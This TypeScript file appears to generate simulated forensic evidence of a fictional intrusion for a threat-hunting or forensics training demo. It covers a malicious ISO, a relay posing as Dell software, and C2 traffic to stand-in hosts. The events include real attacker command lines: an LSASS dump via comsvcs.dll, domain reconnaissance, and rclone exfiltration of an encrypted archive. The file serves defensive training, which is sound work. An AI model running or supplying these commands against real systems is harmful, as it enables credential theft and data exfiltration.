// The story to find: a mailed disk image on a finance workstation, a relay that hides in a vendor's folder, stolen
// credentials, the file server, and a copy of the charter contracts on its way out. Each step leaves its traces in the
// artifacts that would show it. Names and addresses are made up (RFC 5737, RFC 2606).
import { type DemoHost, hashesOf, rfc3339, type World } from './world.ts'
import { type LogEvent, logon, sysmonProcess } from './windows-events.ts'
import { type DemoRow, mftRow, signed } from './windows-state.ts'

const relay = 'C:\\ProgramData\\Dell\\SupportAssist\\relay\\dsaupd.exe'
const command = `"${relay}" -k net -t 300`
const c2 = '203.0.113.57'
const minutes = 60_000

export interface Planted {
  rows: Map<string, DemoRow[]>
  events: LogEvent[]
}

const dayBefore = (world: World): number => world.end - 21.5 * 60 * minutes // 08:30 on the day before

interface Spawn {
  at: number
  image: string
  command: string
  parent?: string
  pid: number
  user?: string
}

const spawned = (host: DemoHost, s: Spawn): LogEvent =>
  sysmonProcess(host, {
    at: s.at,
    image: s.image,
    command: s.command,
    parent: s.parent ?? relay,
    parentCommand: s.parent ?? command,
    user: s.user ?? `HALDEN\\${host.user}`,
    pid: s.pid,
    ppid: 7316,
  })

const system32 = (name: string): string => `C:\\Windows\\System32\\${name}`

const relayRows = (host: DemoHost, at: number, world: World): [string, DemoRow[]][] => {
  const hash = hashesOf(relay)
  return [
    [
      'Windows.System.Pslist',
      [
        {
          Pid: 7316,
          Ppid: 6988,
          TokenIsElevated: false,
          Name: 'dsaupd.exe',
          Exe: relay,
          CommandLine: command,
          CreateTime: rfc3339(at, 6),
          Username: `HALDEN\\${host.user}`,
          WorkingSetSize: 18_423_808,
          Hash: hash,
          Authenticode: signed(relay, '', false),
        },
      ],
    ],
    [
      'Windows.Network.Netstat',
      [
        {
          Pid: 7316,
          Name: 'dsaupd.exe',
          Family: 'IPv4',
          Type: 'TCP',
          Status: 'ESTAB',
          'Laddr.IP': host.ip,
          'Laddr.Port': 50_412,
          'Raddr.IP': c2,
          'Raddr.Port': 443,
          Timestamp: rfc3339(world.end - 9 * minutes, 0),
        },
      ],
    ],
    [
      'Windows.Detection.Amcache',
      [
        {
          HivePath: 'C:\\Windows\\appcompat\\Programs\\Amcache.hve',
          EntryKey: 'Root\\InventoryApplicationFile\\dsaupd.exe|9d1f0c2277aa31b0',
          KeyMTime: rfc3339(at + 2 * minutes),
          EntryType: 'InventoryApplicationFile',
          SHA1: hash.SHA1,
          EntryName: 'dsaupd.exe',
          EntryPath: relay.toLowerCase(),
          Publisher: 'dell inc.',
          OriginalFileName: 'relaysvc.exe',
          BinaryType: 'pe64_amd64',
        },
      ],
    ],
    [
      'Windows.NTFS.MFT',
      [
        {
          ...mftRow({ path: relay, at, size: 412_160, entry: 91_004 }),
          Created0x10: '2024-02-11T10:00:00Z',
          SI_Lt_FN: true,
          USecZeros: true,
        },
      ],
    ],
  ]
}

const onWorkstation = (world: World, host: DemoHost): Planted => {
  const t = dayBefore(world)
  const iso = `C:\\Users\\${host.user}\\Downloads\\Annex_B.iso`
  const rows = new Map(relayRows(host, t + 12 * minutes, world))
  rows.set('Windows.Applications.Edge.History', [
    {
      User: host.user,
      url_id: 9001,
      visit_time: rfc3339(t, 6),
      visited_url: 'https://files.charter-annex.example/d/Annex_B.iso',
      title: 'Annex B',
      visit_count: 1,
      typed_count: 0,
      last_visit_time: rfc3339(t, 6),
      hidden: 0,
      from_url_id: 0,
      visit_duration: 4,
      transition: 805_306_368,
      OSPath: `C:\\Users\\${host.user}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\History`,
    },
  ])
  rows.get('Windows.NTFS.MFT')?.push(mftRow({ path: iso, at: t + minutes, size: 1_835_008, entry: 91_001 }))
  rows.set('Windows.Forensics.Prefetch', [
    {
      Executable: 'DSAUPD.EXE',
      FileSize: 21_004,
      Hash: '0x7C1F22A0',
      Version: 'Win10 (30)',
      LastRunTimes: [rfc3339(t + 12 * minutes, 6), rfc3339(t + 72 * minutes, 6)],
      RunCount: 2,
      Binary: relay.toUpperCase(),
      ExecutablePath: relay.toUpperCase(),
      PrefetchFileName: 'DSAUPD.EXE-7C1F22A0.pf',
      OSPath: 'C:\\Windows\\Prefetch\\DSAUPD.EXE-7C1F22A0.pf',
      CreationTime: rfc3339(t + 12 * minutes, 6),
      ModificationTime: rfc3339(t + 72 * minutes, 6),
    },
  ])
  rows.set('Windows.System.TaskScheduler/Analysis', [
    {
      OSPath: 'C:\\Windows\\System32\\Tasks\\SupportAssist Relay',
      TaskName: '\\SupportAssist Relay',
      Mtime: rfc3339(t + 14 * minutes),
      Command: relay,
      Arguments: '-k net',
      UserId: host.sid,
      RunLevel: 'LeastPrivilege',
      LogonType: 'InteractiveToken',
      ComHandler: null,
      StartBoundary: rfc3339(t, 0),
      Authenticode: signed(relay, '', false),
    },
  ])
  const shell = system32('cmd.exe')
  const events: LogEvent[] = [
    spawned(host, {
      at: t + 11 * minutes,
      image: system32('rundll32.exe'),
      command: 'rundll32.exe E:\\Annex_B\\dsalib.dll,Sync',
      parent: 'C:\\Windows\\explorer.exe',
      pid: 6988,
    }),
    {
      at: t + 12 * minutes - 2000,
      channel: 'Microsoft-Windows-Sysmon/Operational',
      id: 11,
      data: {
        RuleName: '-',
        UtcTime: rfc3339(t + 12 * minutes - 2000),
        ProcessId: 6988,
        Image: system32('rundll32.exe'),
        TargetFilename: relay,
        CreationUtcTime: '2024-02-11 10:00:00.000',
        User: `HALDEN\\${host.user}`,
      },
    },
    spawned(host, { at: t + 12 * minutes, image: relay, command, parent: system32('rundll32.exe'), pid: 7316 }),
    {
      at: t + 12 * minutes + 4000,
      channel: 'Microsoft-Windows-Sysmon/Operational',
      id: 3,
      data: {
        RuleName: '-',
        UtcTime: rfc3339(t + 12 * minutes + 4000),
        ProcessId: 7316,
        Image: relay,
        User: `HALDEN\\${host.user}`,
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: host.ip,
        SourcePort: 50_412,
        DestinationIp: c2,
        DestinationHostname: 'relay.charter-annex.example',
        DestinationPort: 443,
      },
    },
    {
      at: t + 14 * minutes,
      channel: 'Security',
      id: 4698,
      data: {
        SubjectUserSid: host.sid,
        SubjectUserName: host.user,
        SubjectDomainName: 'HALDEN',
        SubjectLogonId: 5_913_623,
        TaskName: '\\SupportAssist Relay',
        TaskContent: `<Task><Exec><Command>${relay}</Command><Arguments>-k net</Arguments></Exec></Task>`,
      },
    },
    ...['whoami /all', 'nltest /dclist:halden', 'net group "Domain Admins" /domain', 'ipconfig /all'].map((c, i) =>
      spawned(host, { at: t + (25 + i) * minutes, image: shell, command: `cmd.exe /c ${c}`, pid: 7400 + 4 * i }),
    ),
    spawned(host, {
      at: t + 95 * minutes,
      image: system32('rundll32.exe'),
      command: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 744 C:\\ProgramData\\Dell\\SupportAssist\\relay\\c.bin full',
      pid: 8012,
      user: 'NT AUTHORITY\\SYSTEM',
    }),
    {
      at: t + 96 * minutes,
      channel: 'Microsoft-Windows-Sysmon/Operational',
      id: 10,
      data: {
        RuleName: '-',
        UtcTime: rfc3339(t + 96 * minutes),
        SourceProcessId: 8012,
        SourceImage: system32('rundll32.exe'),
        TargetProcessId: 744,
        TargetImage: system32('lsass.exe'),
        GrantedAccess: 2_097_151,
        CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4',
      },
    },
    {
      at: t + 97 * minutes,
      channel: 'Microsoft-Windows-PowerShell/Operational',
      id: 4104,
      user: host.sid,
      data: {
        MessageNumber: 1,
        MessageTotal: 1,
        ScriptBlockText:
          "$s=New-PSSession -ComputerName hld-srv-file02 -Credential $c; Invoke-Command $s {Get-SmbShare | ? Name -like '*charter*'}",
        ScriptBlockId: '0f2be3a1-5d2a-4c1b-9f00-aa10b2c3d4e5',
        Path: '',
      },
    },
  ]
  return { rows, events }
}

const onFileServer = (world: World, host: DemoHost, from: DemoHost): Planted => {
  const t = dayBefore(world) + 110 * minutes
  const rows = new Map(relayRows(host, t + 2 * minutes, world))
  const rclone = 'C:\\ProgramData\\Dell\\SupportAssist\\relay\\rc.exe'
  rows.set('Windows.System.Services', [
    {
      State: 'Running',
      Name: 'DSARelay',
      DisplayName: 'Dell SupportAssist Relay',
      Status: 'OK',
      Pid: 7316,
      ExitCode: 0,
      StartMode: 'Auto',
      PathName: `${relay} -k svc`,
      ServiceType: 'Own Process',
      UserAccount: 'LocalSystem',
      Created: rfc3339(t + 2 * minutes),
      ServiceDll: null,
      AbsoluteExePath: relay,
      HashServiceExe: hashesOf(relay),
      CertinfoServiceExe: signed(relay, '', false),
    },
  ])
  rows
    .get('Windows.NTFS.MFT')
    ?.push(mftRow({ path: 'C:\\ProgramData\\Dell\\SupportAssist\\relay\\cp.7z', at: t + 40 * minutes, size: 734_003_200, entry: 91_040 }))
  const as = 'HALDEN\\svc-backup'
  const events: LogEvent[] = [
    logon({ at: t, user: 'svc-backup', type: 3, from: from.ip, workstation: from.hostname }),
    {
      at: t + 2 * minutes,
      channel: 'System',
      id: 7045,
      data: {
        ServiceName: 'DSARelay',
        ImagePath: `${relay} -k svc`,
        ServiceType: 'user mode service',
        StartType: 'auto start',
        AccountName: 'LocalSystem',
      },
    },
    spawned(host, {
      at: t + 2 * minutes + 1500,
      image: relay,
      command: `${relay} -k svc`,
      parent: system32('services.exe'),
      pid: 7316,
      user: 'NT AUTHORITY\\SYSTEM',
    }),
    spawned(host, {
      at: t + 31 * minutes,
      image: 'C:\\Program Files\\7-Zip\\7z.exe',
      command: '7z.exe a -pHx8 -mhe C:\\ProgramData\\Dell\\SupportAssist\\relay\\cp.7z D:\\Shares\\Charter\\*',
      pid: 9104,
      user: as,
    }),
    spawned(host, {
      at: t + 44 * minutes,
      image: rclone,
      command: `${rclone} copy cp.7z remote:in --config r.conf --bwlimit 8M`,
      pid: 9220,
      user: as,
    }),
    {
      at: t + 44 * minutes + 3000,
      channel: 'Microsoft-Windows-Sysmon/Operational',
      id: 3,
      data: {
        RuleName: '-',
        UtcTime: rfc3339(t + 44 * minutes + 3000),
        ProcessId: 9220,
        Image: rclone,
        User: as,
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: host.ip,
        SourcePort: 51_877,
        DestinationIp: '203.0.113.90',
        DestinationHostname: 'drop.charter-annex.example',
        DestinationPort: 443,
      },
    },
    {
      at: t + 118 * minutes,
      channel: 'Security',
      id: 1102,
      data: {
        SubjectUserSid: 'S-1-5-21-2819201-771204311-399122-1142',
        SubjectUserName: 'svc-backup',
        SubjectDomainName: 'HALDEN',
        SubjectLogonId: 7_120_033,
      },
    },
  ]
  return { rows, events }
}

/** What the intrusion left on a host; nothing on most. */
export const plantedOn = (world: World, host: DemoHost): Planted | null => {
  const workstation = world.hosts[0]
  if (workstation === undefined) return null
  if (host === workstation) return onWorkstation(world, host)
  return host.hostname === 'HLD-SRV-FILE02' ? onFileServer(world, host, workstation) : null
}
